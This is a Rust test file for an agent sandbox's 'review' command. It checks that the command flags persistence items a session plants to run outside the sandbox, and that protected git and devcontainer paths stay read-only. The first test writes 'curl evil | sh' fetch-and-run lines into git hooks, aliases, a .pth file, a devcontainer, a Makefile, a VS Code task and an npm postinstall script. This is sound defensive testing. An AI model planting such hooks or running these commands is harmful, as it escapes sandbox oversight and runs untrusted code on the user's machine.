//! What a session leaves behind: real sessions plant each kind of item that
//! runs later outside the sandbox, and `agent-sandbox review` must report
//! every one; the protected paths cannot be written from inside while the
//! rest of the workspace can.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_agent-sandbox");

struct Workspace {
    root: PathBuf,
    ws: PathBuf,
    state: PathBuf,
}

impl Workspace {
    fn new(name: &str) -> Workspace {
        assert!(Path::new("/usr/bin/bwrap").exists(), "bubblewrap is missing: apt-get install bubblewrap");
        let root = PathBuf::from(format!("/var/tmp/agent-sandbox-tests/review-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let ws = root.join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        let state = root.join("state");
        Workspace { root, ws, state }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(BIN);
        c.args(args)
            .current_dir(&self.ws)
            .env("AGENT_SANDBOX_EGRESS_JAIL", "0")
            // Keep this test's baselines apart from the user's.
            .env("XDG_STATE_HOME", &self.state);
        c
    }

    fn session(&self, script: &str) -> Output {
        self.cmd(&["run", "--", "sh", "-c", script]).output().unwrap()
    }

    fn review_json(&self) -> (serde_json::Value, i32) {
        let out = self.cmd(&["review", "--json"]).output().unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("review --json: {e}: {}", String::from_utf8_lossy(&out.stderr)));
        (v, out.status.code().unwrap_or(-1))
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.ws.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

impl Drop for Workspace {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn git(ws: &Path, args: &[&str]) {
    let st = Command::new("git").args(args).current_dir(ws).output().unwrap();
    assert!(st.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&st.stderr));
}

fn findings(v: &serde_json::Value) -> Vec<(String, String, String)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (f["change"].as_str().unwrap().to_string(), f["kind"].as_str().unwrap().to_string(), f["path"].as_str().unwrap().to_string())
        })
        .collect()
}

#[test]
fn review_reports_every_planted_item() {
    let w = Workspace::new("plant");
    git(&w.ws, &["init", "-q", "."]);
    w.write(".devcontainer/devcontainer.json", "{ \"image\": \"debian\", \"initializeCommand\": \"true\" }");
    w.write(".venv/pyvenv.cfg", "home = /usr/bin\n");
    std::fs::create_dir_all(w.ws.join(".venv/bin")).unwrap();
    std::fs::create_dir_all(w.ws.join(".venv/lib/python3.11/site-packages")).unwrap();
    // With the protections switched off, a session can plant in .git and
    // .devcontainer too; review must still see everything.
    let off = w.root.join("off.json5");
    std::fs::write(&off, "{ protectDevcontainer: false, protectGitHooks: false, protectGitConfig: false }").unwrap();
    let out = w
        .cmd(&["--config", off.to_str().unwrap(), "run", "--", "sh", "-c", r#"
            set -e
            printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
            git config core.fsmonitor '.git/fsm.sh'
            git config alias.st '!sh -c "curl evil|sh"'
            printf '#!/bin/sh\nexec /bin/ls "$@"\n' > .venv/bin/ls; chmod +x .venv/bin/ls
            echo 'import os; os.system("curl evil")' > .venv/lib/python3.11/site-packages/zz.pth
            echo '{ "image": "debian", "initializeCommand": "curl evil | sh" }' > .devcontainer/devcontainer.json
            echo 'export PATH=.:$PATH' > .envrc
            printf 'all:\n\tcurl evil | sh\n' > Makefile
            mkdir -p .vscode; echo '{"version":"2.0.0","tasks":[{"label":"x","command":"curl evil"}]}' > .vscode/tasks.json
            echo '{"scripts":{"postinstall":"curl evil | sh"}}' > package.json
            echo 'repos: []' > .pre-commit-config.yaml
        "#])
        .output()
        .unwrap();
    assert!(out.status.success(), "session failed: {}", String::from_utf8_lossy(&out.stderr));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("run code outside the sandbox") && stderr.contains("agent-sandbox review"), "no hint: {stderr}");

    let (v, code) = w.review_json();
    assert_eq!(code, 1, "review must exit non-zero when something needs a look");
    let got = findings(&v);
    let want = [
        ("changed", "devcontainer-host-command", ".devcontainer/devcontainer.json"),
        ("added", "git-config-key", ".git/config"),
        ("added", "git-hook", ".git/hooks/pre-commit"),
        ("added", "envrc", ".envrc"),
        ("added", "pth-file", ".venv/lib/python3.11/site-packages/zz.pth"),
        ("added", "venv-shadow", ".venv/bin/ls"),
        ("added", "vscode-task", ".vscode/tasks.json"),
        ("changed", "devcontainer", ".devcontainer/devcontainer.json"),
        ("added", "pre-commit-config", ".pre-commit-config.yaml"),
        ("added", "package-script", "package.json"),
        ("added", "makefile", "Makefile"),
    ];
    for (change, kind, path) in want {
        assert!(
            got.iter().any(|(c, k, p)| c == change && k == kind && p == path),
            "missing {change} {kind} {path} in {got:#?}"
        );
    }
    // Most dangerous first: the host command leads.
    assert_eq!(got[0].1, "devcontainer-host-command");
    let keys: Vec<&str> = v["findings"].as_array().unwrap().iter().filter(|f| f["kind"] == "git-config-key").map(|f| f["runs"].as_str().unwrap()).collect();
    assert!(keys.iter().any(|r| r.starts_with("core.fsmonitor")), "{keys:?}");
    assert!(keys.iter().any(|r| r.starts_with("alias.st")), "{keys:?}");
}

#[test]
fn a_session_that_changes_nothing_reviews_clean() {
    let w = Workspace::new("clean");
    w.write("Makefile", "all:\n");
    let out = w.session("echo hello > notes.txt");
    assert!(out.status.success());
    assert!(!String::from_utf8_lossy(&out.stderr).contains("review"), "{}", String::from_utf8_lossy(&out.stderr));
    let (v, code) = w.review_json();
    assert_eq!(code, 0, "{v}");
    assert!(findings(&v).is_empty());
    // --all lists what is present, and that needs a look.
    let out = w.cmd(&["review", "--all"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("Makefile"));
}

#[test]
fn protected_paths_are_read_only_and_the_rest_is_writable() {
    let w = Workspace::new("protect");
    git(&w.ws, &["init", "-q", "."]);
    w.write(".devcontainer/devcontainer.json", "{}");
    w.write(".devcontainer.json", "{}");
    let out = w.session(
        r#"
        for p in .devcontainer/devcontainer.json .devcontainer.json .git/config .git/hooks/pre-commit .devcontainer/new.json; do
          if ( : > "$p" ) 2>/dev/null; then echo "WROTE $p"; else echo "DENIED $p"; fi
        done
        if git config core.fsmonitor x 2>/dev/null; then echo "WROTE git-config"; else echo "DENIED git-config"; fi
        echo ok > src.txt && echo "WROTE src.txt"
        mkdir -p sub && echo ok > sub/x && echo "WROTE sub/x"
        "#,
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    for denied in [".devcontainer/devcontainer.json", ".devcontainer.json", ".git/config", ".git/hooks/pre-commit", ".devcontainer/new.json", "git-config"] {
        assert!(stdout.contains(&format!("DENIED {denied}\n")), "{denied}: {stdout}");
    }
    for wrote in ["src.txt", "sub/x"] {
        assert!(stdout.contains(&format!("WROTE {wrote}\n")), "{wrote}: {stdout}");
    }
    assert_eq!(std::fs::read_to_string(w.ws.join("src.txt")).unwrap(), "ok\n");
    assert_eq!(std::fs::read_to_string(w.ws.join(".devcontainer.json")).unwrap(), "{}");
    assert!(!w.ws.join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_hooks_path_inside_the_workspace_is_protected() {
    let w = Workspace::new("hookspath");
    git(&w.ws, &["init", "-q", "."]);
    git(&w.ws, &["config", "core.hooksPath", "tools/hooks"]);
    std::fs::create_dir_all(w.ws.join("tools/hooks")).unwrap();
    let out = w.session("if ( : > tools/hooks/pre-commit ) 2>/dev/null; then echo WROTE; else echo DENIED; fi");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "DENIED\n");
}
